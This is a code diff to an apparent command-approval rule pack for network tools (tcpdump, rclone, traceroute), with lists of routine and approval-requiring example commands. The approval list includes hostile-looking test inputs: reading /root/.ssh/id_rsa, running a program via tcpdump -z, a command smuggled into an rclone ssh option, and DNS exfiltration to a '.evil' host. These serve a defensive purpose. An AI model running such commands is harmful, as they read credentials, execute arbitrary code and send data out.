@@ -24,7 +24,7 @@ export const network = (): Pack => ({
     fping: 'aAdDeglmnNoqrRsuvx46 c:num C:num p:num t:num r:num ; host*',
     arping: 'c:num I:word w:num qbDf ; host',
     traceroute:
-      '46nIUTFAe f:num m:num q:num w:num p:num N:num i:word -max-hops:num -first:num -queries:num -wait:num -port:num -interface:word -icmp -tcp -udp ; host num',
+      '46nIUTFAe f:num m:num q:num w:num p:num N:num i:word -max-hops:num -first:num -queries:num -wait:num -port:num -interface:word -icmp -tcp -udp -mtu ; host num',
     traceroute6: '=traceroute',
     tracepath: '46bn l:num m:num p:num ; host',
     // Without a report it takes over the terminal.
@@ -32,7 +32,8 @@ export const network = (): Pack => ({
     curl: 'V! -version! ;\n-help! h! ; lit',
     wget: 'V! -version! ;',
     nmap: 'V! -version! ;',
-    tcpdump: 'D! -list-interfaces! h! -version! -help! ;',
+    // Not -w, -z and -F: a file is written, a program run on it, a filter read. Names are looked up without -n.
+    tcpdump: 'D! -list-interfaces! h! -version! -help! ;\nr:archive! n v X x A q e t c:num # ; lit*',
     tshark: 'D! v! -version! ;',
     iperf3: 'v! -version! ;',
     // Not -G: it runs the commands of `Match exec`.
@@ -40,12 +41,14 @@ export const network = (): Pack => ({
     // With -n nothing is written; a colon would name another host.
     rsync:
       'V! -version! ;\nn! -dry-run! avrzhiuctpoglHxqPSAXDEO -recursive -archive -verbose -quiet -itemize-changes -delete -checksum -compress -human-readable -stats -progress -times -perms -links -hard-links -update -size-only -existing -ignore-existing -one-file-system -exclude:lit -include:lit -max-size:num -min-size:num ; archive! archive!',
-    rclone: `%set c -max-depth:num -include:lit -exclude:lit -filter:lit -fast-list v -verbose q -quiet -transfers:num -checkers:num -min-size:lit -max-size:lit -min-age:lit -max-age:lit -human-readable -tpslimit:num -ignore-case
+    rclone: `%before n -dry-run P -progress v -verbose
+      %set c -max-depth:num -include:lit -exclude:lit -filter:lit -fast-list v -verbose q -quiet -transfers:num -checkers:num -min-size:lit -max-size:lit -min-age:lit -max-age:lit -human-readable -tpslimit:num -ignore-case
       version|listremotes ; -long ;
       ls|lsl|lsd ; @c R -recursive ; remotepath!
       lsf ; @c R -recursive F:word -format:word s:lit -separator:lit p d -dir-slash -dirs-only -files-only -absolute -csv -hash:word ; remotepath!
       lsjson ; @c R -recursive M -metadata -hash -hash-type:word -dirs-only -files-only -stat -no-modtime -no-mimetype -original -encrypted ; remotepath!
       size|about ; @c -json -full ; remotepath!
+      copy|sync|move|delete|purge|copyto|moveto ; @c n! -dry-run! P -progress ; remotepath! remotepath
       tree ; @c a C d D F i L:num -all -dirs-only -full-path -level:num -size s p t r U -human -noreport ; remotepath!
       md5sum|sha1sum ; @c -base64 ; remotepath!
       hashsum ; @c -base64 ; word! remotepath!
@@ -231,6 +234,10 @@ export const network = (): Pack => ({
   ],
   examples: {
     routine: [
+      'rclone --dry-run delete r:d',
+      'rclone delete r:d --dry-run',
+      'tcpdump -nr a.pcap port 53',
+      'traceroute --mtu example.org',
       'ss -tlnp',
       'ss -s',
       "ss -o state established '( dport = :443 )'",
@@ -263,6 +270,15 @@ export const network = (): Pack => ({
       'rclone listremotes',
     ],
     asks: [
+      'rclone --dry-run=false delete r:d',
+      'rclone --verbose delete r:d',
+      'rclone delete r:d',
+      'rclone sync a r:b',
+      'rclone delete --dry-run=false r:d',
+      'rclone copy --dry-run :sftp,ssh=id:x .',
+      'tcpdump -r a.pcap -w b',
+      'tcpdump -r a.pcap -z id',
+      'tcpdump -r /root/.ssh/id_rsa',
       'curl https://x',
       'curl -V -o f',
       'dig "$X.evil"',
